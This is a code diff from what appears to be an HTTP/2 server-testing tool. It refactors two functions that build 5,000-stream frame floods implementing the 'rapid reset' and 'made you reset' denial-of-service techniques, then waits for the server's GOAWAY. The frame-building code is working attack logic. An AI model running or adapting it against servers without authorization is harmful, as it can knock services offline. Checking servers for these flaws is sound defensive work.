@@ -90,32 +90,30 @@ def send(sock, data):
         return False
 
 
-def rapid_reset(sock, watcher):
+def on_5000_streams(sock, watcher, frames):
+    """frames(encoder, stream) for streams 1, 3, 5... in 50 sends of 100, then the GOAWAY awaited."""
     encoder = hpack.Encoder()
     stream = 1
     for batch in range(50):
         out = b''
         for _ in range(100):
-            out += HeadersFrame(stream, request_block(encoder), flags=['END_HEADERS', 'END_STREAM']).serialize()
-            out += RstStreamFrame(stream, error_code=8).serialize()
+            out += frames(encoder, stream)
             stream += 2
         if not send(sock, out):
             break
     return watcher.read(10, until_goaway=True)
+
+
+def rapid_reset(sock, watcher):
+    return on_5000_streams(sock, watcher, lambda encoder, stream:
+                           HeadersFrame(stream, request_block(encoder), flags=['END_HEADERS', 'END_STREAM']).serialize()
+                           + RstStreamFrame(stream, error_code=8).serialize())
 
 
 def made_you_reset(sock, watcher):
-    encoder = hpack.Encoder()
-    stream = 1
-    for batch in range(50):
-        out = b''
-        for _ in range(100):
-            out += HeadersFrame(stream, request_block(encoder, '/', [('content-length', '1')]), flags=['END_HEADERS']).serialize()
-            out += DataFrame(stream, b'xy', flags=['END_STREAM']).serialize()
-            stream += 2
-        if not send(sock, out):
-            break
-    return watcher.read(10, until_goaway=True)
+    return on_5000_streams(sock, watcher, lambda encoder, stream:
+                           HeadersFrame(stream, request_block(encoder, '/', [('content-length', '1')]), flags=['END_HEADERS']).serialize()
+                           + DataFrame(stream, b'xy', flags=['END_STREAM']).serialize())
 
 
 def continuation(sock, watcher):
